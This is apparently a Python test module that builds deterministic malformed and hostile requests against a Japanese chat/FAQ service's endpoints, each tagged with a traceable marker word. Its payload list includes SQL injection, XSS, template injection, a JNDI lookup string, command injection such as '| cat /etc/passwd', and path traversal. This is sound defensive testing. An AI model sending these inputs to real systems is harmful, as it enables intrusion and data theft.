"""Requests that no honest client sends, the same in every run.  Each carries a word of its own,
so that a trace of it can be found wherever it is left."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Final

MARK: Final = "zqxjkv"  # every word begins with it; nothing else in the project does

CHAT: Final = "/api/chat"
SUGGEST: Final = "/api/suggest"
FEEDBACK: Final = "/api/feedback"
FAQ: Final = "/faq"
PATHS: Final = (CHAT, SUGGEST, FEEDBACK, FAQ)

JSON: Final = "application/json"
FORM: Final = "application/x-www-form-urlencoded"

# {} is where the word stands.
_TEXTS: Final = (
    "{}",
    "/restart {}",
    "/session_start{}",
    "/back {}",
    '/faq{{"a": "{}"}}',
    "/faq/may_discard {}",
    "/{}@__import__('os')",
    "EXTERNAL: {}",
    "'; DROP TABLE turns; -- {}",
    "' OR '{}'='{}",
    "\" UNION SELECT text FROM turns WHERE '{}' --",
    "<script>alert('{}')</script>",
    "<img src=x onerror={}>",
    '"><svg/onload={}>',
    "</script><b {}>",
    "javascript:{}",
    "{{{{7*7}}}}{}",
    "{{%% for x in ().__class__.__base__.__subclasses__() %%}}{}",
    "${{7*7}}{}",
    "#{{{}}}",
    "%s%n%x{}",
    "{{}}{}",
    "${{jndi:ldap://{}.example.jp/a}}",
    "$(touch {})",
    "`{}`",
    "| cat /etc/passwd {}",
    "../../../../etc/passwd{}",
    "..\\..\\{}",
    "file:///{}",
    "%2e%2e%2f{}",
    "{}\r\nSet-Cookie: a=b",
    "{}\x00捨てて",
    "\x00{}",
    "\x1b[31m{}\x1b[0m\x07",
    "\x7f\x80\x9f{}",
    "\u202e{}\u202c",
    "\u2066{}\u2069捨てていい\u200f",
    "\u200b\u200c\u200d\ufeff{}\u2060",
    "{}\ufff9a\ufffab\ufffb\ufffc\uffff\ufdd0",
    "{}\U0010ffff\U000e0001\U000e0041",
    "\ud800{}",
    "{}\udfff捨てて",
    "\udc80{}\ud83d",
    "👨‍👩‍👧‍👦{}🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏽🇯🇵",
    "{}" + "e\u0301" * 40,
    "Z̸̡̢̛" * 20 + "{}",
    "{}﷽﷽﷽" * 3,
    "{}" + "\u3099" * 60,
    "㍿㌍㌶{}ｶﾞﾊﾟ",
    "{}　　　\t\n\n\n",
    "{}" + "𠮷" * 400,
    "{}" + "a" * 460,
    "あ" * 460 + "{}",
    "{}" + "ー" * 450,
    "{}" + "9" * 300,
    "{}" + "１２３４－" * 80,
    "{} " * 30,
    "{}" + "(" * 400,
    "https://" + "a." * 200 + "{}",
    "{}@example.jp 090-1234-5678",
    "null {}",
    "NaN{}",
    "true {}",
)


@dataclass(frozen=True)
class Hostile:
    word: str
    path: str
    body: bytes
    type: str = JSON


def requests(number: int, tokens: Iterator[str]) -> list[Hostile]:
    """As many as asked for, to each path in turn; `tokens`: of conversations that there are."""
    chance = random.Random(20261124)
    made = []
    for at in range(number):
        word = f"{MARK}{at:04d}"
        path = PATHS[at % len(PATHS)]
        if path == FAQ:
            made.append(_form(word, chance))
        else:
            made.append(Hostile(word, path, _json(word, path, chance, tokens), _type(chance)))
    return made


def _type(chance: random.Random) -> str:
    others = ("", FORM, "text/plain; charset=shift_jis", "multipart/form-data", 'a/b;;;="')
    return JSON if chance.random() < 0.8 else chance.choice(others)


def _json(word: str, path: str, chance: random.Random, tokens: Iterator[str]) -> bytes:
    kind = chance.random()
    if kind < 0.12:
        return _not_an_object(word, chance)
    asked = _honest(path, next(tokens))
    if kind < 0.22:  # too long by one, or as long as it may be
        length = chance.choice((500, 501, 501, 5000))
        asked[_field(path)] = (word + "あ" * length)[:length]
    elif kind < 0.6:
        asked[_field(path)] = text(word, chance)
    else:
        key = chance.choice([*asked, "choice", "text", "session", "message_id", "comment", "entry"])
        asked[key] = _value(word, chance)
        asked["note"] = word
    written = json.dumps(asked, ensure_ascii=chance.random() < 0.5)
    if chance.random() < 0.1:  # the last of two keys counts
        written = f'{{"text": "{word}", "session": "{word}", {written[1:]}'
    return written.encode("utf-8", "surrogatepass")


def _honest(path: str, token: str) -> dict[str, Any]:
    if path == SUGGEST:
        return {"text": "再交付"}
    if path == FEEDBACK:
        return {"session": token, "entry": "reissue", "helpful": True, "comment": "はい"}
    return {"text": "再交付", "session": token}


def _field(path: str) -> str:
    return "comment" if path == FEEDBACK else "text"


def text(word: str, chance: random.Random) -> str:
    one = chance.choice(_TEXTS).format(*[word] * 40)
    if chance.random() < 0.3:
        one = f"{one} {chance.choice(_TEXTS).format(*[word] * 40)}"
    return one[: chance.choice((500, 500, 500, 510))]


def _value(word: str, chance: random.Random) -> Any:
    return chance.choice(
        (
            None,
            True,
            0,
            -1,
            10**400,
            1e308,
            float("inf"),
            float("nan"),
            [],
            {},
            [word],
            {word: [word]},
            [[[[[word]]]]],
            "",
            word,
            f"../{word}",
            f"{word}\x00",
            f"{word}.a.b",
            f"IjEi.{word}.c",
            f"\ud800{word}",
            "reissue\x00",
            "__proto__",
            "reissue" * 10,
            "a" * 64,
            "a" * 65,
            "あ",
        )
    )


def _not_an_object(word: str, chance: random.Random) -> bytes:
    return chance.choice(
        (
            f'"{word}"',
            f'["{word}"]',
            f'{{"text": "{word}"',
            f'{{"text": "{word}"}} x',
            f"{{'text': '{word}'}}",
            f'{{"text": {word}}}',
            f'{{"text": "{word}", "a": 01}}',
            f'\ufeff{{"text": "{word}"}}',
            '{"a":' * 3000 + f'"{word}"',
            f'{{"{word}": ' + "[" * 8000,
            f'{{"text": "{word}", "n": ' + "9" * 9000 + "}",
            f'{{"text": "{word}' + "a" * 20_000 + '"}',
            f'{{"text": "{word}\n"}}',
            f'{{"text": "\\ud83d{word}\\u0000"}}',
            f"text={word}",
            f"<a>{word}</a>",
        )
    ).encode() + chance.choice((b"", b"", b"\xff", b"\x00", b"\xed\xa0\x80", b"\xc0\xaf"))


def _form(word: str, chance: random.Random) -> Hostile:
    body = b"q=" + text(word, chance).encode("utf-8", "surrogatepass")
    kind = chance.random()
    if kind < 0.1:
        body = f"q={word}%zz%ff%00%ed%a0%80&q={word}".encode()
    elif kind < 0.2:
        body = f"{word}=1&".encode() * chance.choice((1, 30)) + b"q=\xff\xfe" + word.encode()
    elif kind < 0.3:
        body = f"q={word}".encode() + "あ".encode() * chance.choice((490, 501, 6000))
    types = (JSON, "", "multipart/form-data; boundary=x", f"{FORM}; charset=utf-16")
    return Hostile(word, FAQ, body, FORM if chance.random() < 0.85 else chance.choice(types))
